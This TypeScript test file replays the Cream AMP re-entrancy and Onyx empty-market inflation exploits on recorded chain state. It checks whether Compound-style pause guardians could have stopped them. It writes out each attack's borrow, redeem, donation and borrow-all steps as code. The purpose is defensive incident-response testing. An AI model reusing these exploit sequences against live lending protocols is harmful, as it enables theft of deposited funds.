import { expect } from "chai";
import type { Address } from "../../../src/core/types.ts";
import { type Levers, recordedLevers, STRANGER } from "../../support/levers.ts";
import type { Entry } from "../../support/plans.ts";
import { needs } from "../../support/shared.ts";

const ETHER = 10n ** 18n;
const paused = (what: "borrow" | "mint") => (comptroller: Address, market: Address) =>
  ({ use: "compound-v2-pause", comptroller, pause: what, market }) satisfies Entry;
const setBorrowPaused = paused("borrow");
const setMintPaused = paused("mint");
const admin = (account: Address) => ({
  account,
  slot: "0x0" as const,
  value: "0xf12eb" as const,
  reason: "the comptroller's admin, only compared with who calls",
});

describe("_setBorrowPaused of the Cream of block 13,125,070", function () {
  this.timeout(60_000);
  const COMPTROLLER: Address = "0x3d5bc3c8d13dcb8bf317092d84783c2697ae9258";
  const CRETH: Address = "0xd06527d5e56a3495252a528c4987003b712860ee";
  const CRAMP: Address = "0x2db6c82ce72c8d7d770ba1b5f5ed0b6e075066d6";
  const AMP: Address = "0xff20817765cb7f73d4bde2e66e067e58d11095c2";
  /** An account without history whose slots are recorded. */
  const BORROWER: Address = "0x7fa9385be102ac3eac297483dd6233d62b3e1496";
  const LOOT = 19_480_000n * ETHER;
  const lever = setBorrowPaused(COMPTROLLER, CRAMP);
  let cream: Levers;
  beforeEach(async function () {
    cream = await recordedLevers(needs(this, "recordings/exploit-cream-amp-13125070.json.gz"), [admin(COMPTROLLER)]);
  });
  afterEach(() => cream?.close());

  // One cycle of the attack up to the loan that AMP's hook re-enters.
  const borrow = async () => {
    await cream.send(BORROWER, CRETH, "mint()", [], 500n * ETHER);
    await cream.send(BORROWER, CRETH, "borrow(uint256)", [ETHER]);
    return cream.send(BORROWER, CRAMP, "borrow(uint256)", [LOOT]);
  };

  it("is not pulled by a stranger, and 19,480,000 AMP are borrowed", async () => {
    expect(await cream.pull(STRANGER, lever)).to.include("only pause guardian and admin");
    expect(await cream.holds(lever)).to.equal(false);

    expect(await borrow()).to.equal("done");

    expect(await cream.read(AMP, "balanceOf(address)", [BORROWER])).to.equal(LOOT);
  });

  it("is pulled by the recorded pause guardian, who cannot end it, and AMP is not borrowed", async () => {
    const guardian = await cream.holder(COMPTROLLER, "pauseGuardian()");

    expect(await cream.pull(guardian, lever)).to.equal("done");

    expect(await cream.holds(lever)).to.equal(true);
    expect(await borrow()).to.include("borrow is paused");
    expect(await cream.send(guardian, COMPTROLLER, "_setBorrowPaused(address,bool)", [CRAMP, false])).to.include(
      "only admin",
    );
    expect(cream.fork.misses()).to.deep.equal([]);
    const also = "500 ether for the borrower";
    cream.note("_setBorrowPaused(crAMP) of Cream", COMPTROLLER, guardian, "its recorded pauseGuardian()", also);
  });
});

describe("the pauses of the Onyx of block 18,476,512", function () {
  this.timeout(60_000);
  const COMPTROLLER: Address = "0x7d61ed92a6778f5abf5c94085739f1edabec2800";
  const OETHER: Address = "0x714bd93ab6ab2f0bcfd2aeaf46a46719991d0d79";
  const OPEPE: Address = "0x5fdbcd61bc9bd4b6d3fd1f49a5d253165ea11750";
  const PEPE: Address = "0x6982508145454ce325ddbe47a25d4ec3d2311933";
  /** Uniswap's pool, whose PEPE the attack bought with a flash loan. */
  const POOL: Address = "0xa43fe16908251ee70ef74718545e4fe6c5ccec9f";
  /** An account without history whose slots are recorded. */
  const THIEF: Address = "0x5615deb798bb3e4dfa0139dfa1b3d433cc23b72f";
  const lent = "PEPE sent in the name of Uniswap's pool, where the attack bought them";
  const CASH = 334_476_442_580_295_733_161n;
  const mint = setMintPaused(COMPTROLLER, OPEPE);
  const borrow = setBorrowPaused(COMPTROLLER, OETHER);
  let onyx: Levers;
  beforeEach(async function () {
    onyx = await recordedLevers(needs(this, "recordings/exploit-onyx-18476512.json.gz"), [admin(COMPTROLLER)]);
    await onyx.send(POOL, PEPE, "transfer(address,uint256)", [THIEF, 2n * 10n ** 12n * ETHER]);
    await onyx.send(THIEF, PEPE, "approve(address,uint256)", [OPEPE, 10n ** 12n * ETHER]);
  });
  afterEach(() => onyx?.close());

  const cash = () => onyx.read(OETHER, "getCash()");
  const mintShares = () => onyx.send(THIEF, OPEPE, "mint(uint256)", [ETHER]);
  // Two shares of an empty market become worth a donation of all the PEPE, and collateral.
  const inflate = async () => {
    const shares = await onyx.read(OPEPE, "totalSupply()");
    await onyx.send(THIEF, OPEPE, "redeem(uint256)", [shares - 2n]);
    const rest = await onyx.read(PEPE, "balanceOf(address)", [THIEF]);
    await onyx.send(THIEF, PEPE, "transfer(address,uint256)", [OPEPE, rest]);
    await onyx.send(THIEF, COMPTROLLER, "enterMarkets(address[])", [[OPEPE]]);
  };
  const borrowAll = () => onyx.send(THIEF, OETHER, "borrow(uint256)", [CASH - 1n]);

  it("are not pulled by a stranger, and the ether market is emptied of 334 ETH", async () => {
    for (const lever of [mint, borrow]) {
      expect(await onyx.pull(STRANGER, lever)).to.include("only pause guardian and admin");
      expect(await onyx.holds(lever)).to.equal(false);
    }

    expect(await mintShares()).to.equal("done");
    await inflate();
    expect(await borrowAll()).to.equal("done");

    expect(await cash()).to.equal(1n);
  });

  it("let the recorded pause guardian stop the attack's first step with _setMintPaused", async () => {
    const guardian = await onyx.holder(COMPTROLLER, "pauseGuardian()");

    expect(await onyx.pull(guardian, mint)).to.equal("done");

    expect(await onyx.holds(mint)).to.equal(true);
    expect(await mintShares()).to.include("mint is paused");
    expect(onyx.fork.misses()).to.deep.equal([]);
    onyx.note("_setMintPaused(oPEPE) of Onyx", COMPTROLLER, guardian, "its recorded pauseGuardian()", lent);
  });

  it("let the recorded pause guardian stop the attack's last step with _setBorrowPaused", async () => {
    const guardian = await onyx.holder(COMPTROLLER, "pauseGuardian()");
    expect(await mintShares()).to.equal("done");
    await inflate();

    expect(await onyx.pull(guardian, borrow)).to.equal("done");

    expect(await onyx.holds(borrow)).to.equal(true);
    expect(await borrowAll()).to.include("borrow is paused");
    expect(await cash()).to.equal(CASH);
    expect(onyx.fork.misses()).to.deep.equal([]);
    onyx.note("_setBorrowPaused(oETHER) of Onyx", COMPTROLLER, guardian, "its recorded pauseGuardian()", lent);
  });
});
